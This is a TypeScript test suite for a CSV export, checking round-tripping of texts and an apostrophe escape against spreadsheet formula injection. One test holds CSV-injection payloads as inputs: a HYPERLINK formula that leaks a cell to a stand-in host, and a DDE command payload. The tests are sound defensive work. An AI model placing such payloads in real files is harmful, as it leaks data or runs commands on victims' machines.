/**
 * The CSV export parsed back with csv-parse: one row per case, flattened columns, texts byte for byte except
 * for the documented escape of cells a spreadsheet would run as formulas (CSV injection), which a reader undoes.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { CSV_COLUMNS, csvFiles, FORMULA_ESCAPED } from '../../main/core/releases/exports/csv.js';
import type { RedactedText } from '../../main/core/text.js';
import { writeReleaseExport } from '../../main/core/releases/exports/index.js';
import { tempDir } from '../helpers.js';
import { readTree, sampleSnapshot, snapshotOf, TRICKY } from './release-export-snapshot.js';

function exported(t: Parameters<typeof tempDir>[0], snapshot = sampleSnapshot()) {
  const out = tempDir(t);
  writeReleaseExport(snapshot, 'csv', out);
  const text = readTree(out).get('cases.csv')!;
  const header = (parse(text, { to_line: 1 }) as string[][])[0];
  const rows = parse(text, { columns: true }) as Array<Record<string, string>>;
  return { snapshot, header, rows };
}

test('one row per case under a header of the documented columns', (t) => {
  const { snapshot, header, rows } = exported(t);
  assert.deepEqual(header, [...CSV_COLUMNS]);
  assert.equal(rows.length, snapshot.cases.length);
  assert.deepEqual(rows.map((r) => Number(r.case_id)), snapshot.cases.map((c) => c.case_id));
  for (const row of rows) assert.deepEqual(Object.keys(row), [...CSV_COLUMNS]);
});

test('nested values are flattened into columns, booleans as true/false, unknown values as empty fields', (t) => {
  const { snapshot, rows } = exported(t);
  const [full, regression, bare] = rows;
  const c = snapshot.cases[0]!;
  assert.equal(full!.kind, 'golden');
  assert.equal(full!.category, 'edge-case');
  assert.equal(full!.task_final, c.task.final);
  assert.equal(full!.task_original, c.task.original);
  assert.equal(full!.last_user_message, c.messages[1]!.content);
  assert.equal(full!.response, 'Two of them expire this month.');
  assert.deepEqual(JSON.parse(full!.messages_json!), c.messages);
  assert.deepEqual(JSON.parse(full!.rubric_json!), c.rubric);
  assert.deepEqual(JSON.parse(full!.augmentation_json!), c.task.augmentation);
  assert.equal(full!.checklist_objective, 'true');
  assert.equal(full!.checklist_difficult, 'false');
  assert.equal(full!.signal_thumbs, 'up');
  assert.equal(full!.signal_latency_ms, '820');
  assert.deepEqual(JSON.parse(full!.signal_evaluations_json!), [{ name: 'helpfulness', score: 0.8 }]);
  assert.equal(full!.slice_intent, 'pharmacy');
  assert.equal(full!.provenance_line, '2');
  assert.equal(full!.reviewer, 'ana');
  assert.equal(full!.sha256, c.sha256);
  assert.equal(regression!.kind, 'regression');
  assert.equal(regression!.signal_regenerated, 'true');
  assert.equal(regression!.checklist_difficult, '', 'an unanswered checklist item is empty');
  assert.equal(bare!.category, '');
  assert.equal(bare!.response, '');
  assert.equal(bare!.augmentation_json, '');
  assert.equal(bare!.provenance_record_id, '');
  assert.equal(bare!.reviewer, '');
});

test('commas, quotes, line breaks, a formula inside a text and non-ASCII text survive the round trip exactly', (t) => {
  const { rows } = exported(t);
  const bare = rows[2]!;
  assert.equal(bare.task_final, TRICKY);
  assert.equal(bare.last_user_message, TRICKY);
  assert.deepEqual(JSON.parse(bare.messages_json!), [{ role: 'user', content: TRICKY }]);
});

/** The bare sample case with its texts replaced. */
function caseWith(texts: { final?: string; original?: string; expected?: string; user?: string; response?: string; intent?: string; reviewer?: string }, latency?: number) {
  const base = sampleSnapshot().cases[2]!;
  const r = (text: string) => text as RedactedText;
  return {
    ...base,
    messages: [{ role: 'user', content: r(texts.user ?? 'hello') }],
    response: texts.response === undefined ? null : { role: 'assistant', content: r(texts.response) },
    expected_behaviour: texts.expected ?? '',
    task: { ...base.task, original: texts.original ?? 'hello', final: texts.final ?? 'hello' },
    signals: latency === undefined ? {} : { latency_ms: latency },
    slices: texts.intent === undefined ? {} : { intent: texts.intent },
    review: { reviewer: texts.reviewer ?? null, decided_at: null },
  };
}

/** What a program reading cases.csv does (FORMATS.md): one `'` off a field that was escaped. */
const unescape = (field: string) => (FORMULA_ESCAPED.test(field) ? field.slice(1) : field);

/** A spreadsheet runs a cell starting with one of these as a formula. */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

test('a text a spreadsheet would run as a formula comes back with one leading apostrophe; numbers are left alone', (t) => {
  const texts = {
    final: '=HYPERLINK("http://example.test/?leak="&A2,"Open")',
    original: '+1 555 0100 is [PHONE_1]',
    expected: '-2+3',
    user: '@SUM(A1:A9)',
    response: '\tcmd|\'/c calc\'!A0',
    intent: '\uFF1D1+1',
    reviewer: '\rana',
  };
  const { rows } = exported(t, snapshotOf([caseWith(texts, -5)]));
  const row = rows[0]!;
  assert.equal(row.task_final, `'${texts.final}`);
  assert.equal(row.task_original, `'${texts.original}`);
  assert.equal(row.expected_behaviour, `'${texts.expected}`);
  assert.equal(row.last_user_message, `'${texts.user}`);
  assert.equal(row.response, `'${texts.response}`);
  assert.equal(row.slice_intent, `'${texts.intent}`);
  assert.equal(row.reviewer, `'${texts.reviewer}`);
  assert.equal(row.signal_latency_ms, '-5', 'a negative number stays a number');
  // The JSON columns begin with [ or { and carry the texts exactly.
  assert.deepEqual(JSON.parse(row.messages_json!), [{ role: 'user', content: texts.user }]);
  // No field of the file starts a formula, except the number.
  for (const [column, field] of Object.entries(row)) if (column !== 'signal_latency_ms') assert.doesNotMatch(field, FORMULA_START, column);
  // Undoing the escape gives every text back.
  assert.equal(unescape(row.task_final!), texts.final);
  assert.equal(unescape(row.response!), texts.response);
});

test('texts already starting with apostrophes stay reversible: only those before a formula character get one more', (t) => {
  const texts = { final: "'=already quoted", original: "''+twice", expected: "'plain apostrophe", user: "it's fine", response: "'" };
  const { rows } = exported(t, snapshotOf([caseWith(texts)]));
  const row = rows[0]!;
  assert.equal(row.task_final, "''=already quoted");
  assert.equal(row.task_original, "'''+twice");
  assert.equal(row.expected_behaviour, "'plain apostrophe", 'not before a formula character: exactly as frozen');
  assert.equal(row.last_user_message, "it's fine");
  assert.equal(row.response, "'");
  for (const [key, column] of [['final', 'task_final'], ['original', 'task_original'], ['expected', 'expected_behaviour'], ['user', 'last_user_message'], ['response', 'response']] as const) {
    assert.equal(unescape(row[column]!), texts[key], column);
  }
});

test('any text comes back exactly after the documented unescape, and unchanged unless it starts like a formula', () => {
  const start = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF20', "'", "''", "'=", "''-", ' =', 'a');
  const text = fc.tuple(start, fc.string({ maxLength: 12, unit: 'grapheme' })).map(([a, b]) => a + b);
  fc.assert(
    fc.property(text, text, (final, user) => {
      const [file] = csvFiles(snapshotOf([caseWith({ final, user })]));
      const [row] = parse(file!.contents, { columns: true }) as Array<Record<string, string>>;
      for (const [field, original] of [[row!.task_final!, final], [row!.last_user_message!, user]] as const) {
        assert.equal(unescape(field), original);
        if (!/^'*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(original)) assert.equal(field, original);
        assert.doesNotMatch(field, FORMULA_START);
      }
    }),
    { numRuns: 300 },
  );
});

test('a release without cases still gets the header', (t) => {
  const { header, rows } = exported(t, snapshotOf([]));
  assert.deepEqual(header, [...CSV_COLUMNS]);
  assert.equal(rows.length, 0);
});
